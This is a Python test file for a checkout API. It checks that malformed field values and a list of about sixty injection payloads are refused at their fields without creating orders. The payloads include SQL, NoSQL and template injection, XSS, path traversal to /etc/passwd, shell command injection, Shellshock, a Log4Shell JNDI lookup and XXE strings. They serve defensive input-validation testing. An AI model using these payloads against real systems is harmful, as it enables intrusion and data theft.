"""Requests that somebody wrote by hand to see what gives: each is refused at its field, and does nothing."""

import asyncio
import json
import secrets
import unicodedata
from collections.abc import Mapping, Sequence
from typing import Any, Final

import pytest

from checkout.routes.ordering import CheckoutRequest
from tests.support.shopping import Answer, Json, Shopper

pytestmark = pytest.mark.servers

NUMBERS: Final[tuple[object, ...]] = (0, -1, 1.5, 1e9, 2**31, 2**53, 2**63, 2**64, True, "1", "0x1", "１", [], {}, [1])
TEXTS: Final[tuple[object, ...]] = (7, 0, -0.5, True, [], {}, ["usd"], {"usd": 1})
WRONG: Final[Mapping[str, Sequence[object]]] = {
    "lines": ("", 1, {}, [], [None], [[]], ["MUG"], [{}], [{"sku": "MUG"}], [{"quantity": 1}], {"0": {}}),
    "lines/0/sku": (*TEXTS, None, "", "a b", "ä", "x" * 65, "../MUG", "MUG\n", "MUG\x00", "MUG\u202e"),
    "lines/0/quantity": (*NUMBERS, None, 100, "", "one"),
    "coupon": (*TEXTS, "", "x" * 41, "OFF 10", "OFF%", "ÖFF", "OFF\n"),
    "currency": (*TEXTS, "", "USD", "us", "usdt", "xxx", "€", "usd ", "u\u0455d"),
    "country": (*TEXTS, "", "us", "USA", "U", "U1", "ÜS", "US\n"),
    "region": (*TEXTS, "", "ca", "CALI", "C A", "ÇA"),
    "email": (
        *TEXTS, "", "ada", "@example.com", "ada@", "ada@example", "ada@@example.com", "ada@example.com,bob@example.com",
        "ada@example.com\r\nBcc: bob@example.com", "ada@exämple.com", "a" * 65 + "@example.com", "ada @example.com",
        "ada@example.com\u202e", unicodedata.normalize("NFD", "ädä@example.com"),
        unicodedata.normalize("NFC", "ädä@example.com"), "ada@" + "a" * 250 + ".com", "a\u0301" * 5_000, "👩‍💻@example.com",
    ),
    "locale": (*TEXTS, "", "EN", "en_US", "en-us", "english", "en-USA", "en\n"),
    "success_path": (*TEXTS, "", "success"),
    "cancel_path": (*TEXTS, "", "cart"),
    "shipping": (7, "", True, [], {"price": 1}, {"country": "usa"}, {"option": "a b"}, {"amount_minor": 0}),
    "payment_methods": (7, "card", {}, [], ["cash"], [7], [["card"]], ["CARD"]),
    "expires_in_minutes": (*NUMBERS, 44, 1441, ""),
    "expires_at": (
        *TEXTS, "", "tomorrow", "2026-01-01", "2026-01-01T00:00:00", "0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z",
        "2026-02-30T00:00:00Z", "2026-01-01T25:00:00Z", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "1767225600",
    ),
    "origin": (*TEXTS, "", "desktop", "WEB"),
    "metadata": (7, "", [], {"": "x"}, {"a b": "x"}, {"ä": "x"}, {"k": 1}, {"k": None}, {"k": {}}, {"k": "x" * 501},
                 {"order_id": "ord_1"}, {f"k{n}": "x" for n in range(41)}),
}  # fmt: skip

PAYLOADS: Final = (
    "' OR '1'='1", "'; DROP TABLE orders; --", '" OR ""="', "1; SELECT pg_sleep(10)", "') UNION SELECT NULL--", "admin'--",
    "\\'; --", "%27%20OR%201=1", "1/**/OR/**/1=1", "$$;SELECT 1;$$", "{'$gt': ''}", '{"$ne": null}', "$where: sleep(1)",
    "[$regex]=.*", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{config}}", "%{(1+1)}", "*{T(x)}",
    "\r\nSet-Cookie: a=b", "%0d%0aX-Evil: 1", "\nBcc: b@example.com", "\r\n\r\n<html>", "a\tb", "a\x0bb", "a\x1bb",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg onload=alert(1)>",
    "<!--", "]]>", "<![CDATA[", "&lt;script&gt;", "<iframe src=//evil.example>", "';alert(1)//", "</title><script>",
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd\x7f", "file:///etc/passwd", "|id", ";id", "`id`", "$(id)", "&& id",
    "() { :;}; id", "${jndi:ldap://evil.example}", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>", "\u202egnp.exe",
    "a\u0300\u0301\u0302" * 50, "👩‍👩‍👧‍👦", "ﷺ", "İı", "\ufeffMUG", "MUG\u200b", "Ω≈ç√∫",
)  # fmt: skip
TEXT_FIELDS: Final = ("lines/0/sku", "coupon", "email", "success_path", "locale", "currency")


def _with(body: Json, place: str, value: object) -> Json:
    made: Any = json.loads(json.dumps(body))
    *way, last = place.split("/")
    inner = made
    for step in way:
        inner = inner[int(step) if step.isdigit() else step]
    inner[last] = value
    return dict(made)


async def _ask(shopper: Shopper, body: Json) -> Answer:
    url = f"{shopper.deployment.public_url('checkout')}/api/payments/checkout-session"
    return await shopper.call("POST", url, body, **{"Idempotency-Key": secrets.token_hex(12)})


async def _all_refused(shopper: Shopper, cases: Sequence[tuple[str, object]]) -> None:
    sku = await shopper.offer()
    good = {"lines": [{"sku": sku, "quantity": 1}], "email": "ada@example.com", "currency": "usd"}
    count = "SELECT count(*) FROM checkout.orders WHERE lines->0->>'sku' = $1"
    turns = asyncio.Semaphore(8)

    async def ask(place: str, value: object) -> str | None:
        async with turns:
            answer = await _ask(shopper, _with(good, place, value))
        pointers = [error["pointer"] for error in answer.body.get("errors", [])]
        named = all(pointer == f"/{place}" or pointer.startswith(f"/{place}/") for pointer in pointers) and pointers
        spoken = answer.headers["Content-Type"].startswith("application/problem+json")
        # What is no text in JSON is refused before there are fields.
        if (answer.status == 422 and named and spoken) or (answer.status, answer.body["code"]) == (
            400,
            "malformed_json",
        ):
            return None
        return f"{place} = {str(value)[:60]!r}: {answer.status} {pointers} {answer.body}"

    wrong = [found for found in await asyncio.gather(*(ask(*case) for case in cases)) if found is not None]
    assert wrong == []
    assert await shopper.count(count, sku) == 0
    assert (await shopper.stock_of(sku))["held"] == 0


async def test_a_wrong_value_is_refused_at_its_field(shopper: Shopper) -> None:
    cases = [(place, value) for place, values in WRONG.items() for value in values]
    assert len(cases) >= 200

    await _all_refused(shopper, cases)


async def test_no_text_is_more_than_text(shopper: Shopper) -> None:
    cases = [(place, payload) for place in TEXT_FIELDS for payload in PAYLOADS]
    assert len(PAYLOADS) >= 60

    await _all_refused(shopper, cases)


async def test_what_the_shop_may_say_freely_comes_back_as_it_was(shopper: Shopper) -> None:
    sku = await shopper.offer()
    said = {f"k{n}": payload for n, payload in enumerate(PAYLOADS[:40]) if payload.isprintable()}
    body = {"lines": [{"sku": sku, "quantity": 1}], "email": "ada@example.com", "currency": "usd", "metadata": said}

    placed = await _ask(shopper, body)

    assert placed.status == 201, placed
    assert (await shopper.order(placed.body))["metadata"] == said
    session = await shopper.stripe("GET", f"/v1/checkout/sessions/{await shopper.session_of(placed.body)}")
    assert {name: session["metadata"][name] for name in said} == said


async def test_no_member_of_an_answer_is_taken_back_as_a_wish(shopper: Shopper) -> None:
    order = await shopper.placed(await shopper.offer())
    shown = {**order, **await shopper.order(order)}
    answered = [(name, value) for name, value in shown.items() if name not in CheckoutRequest.model_fields]
    assert len(answered) > 15

    await _all_refused(shopper, answered)
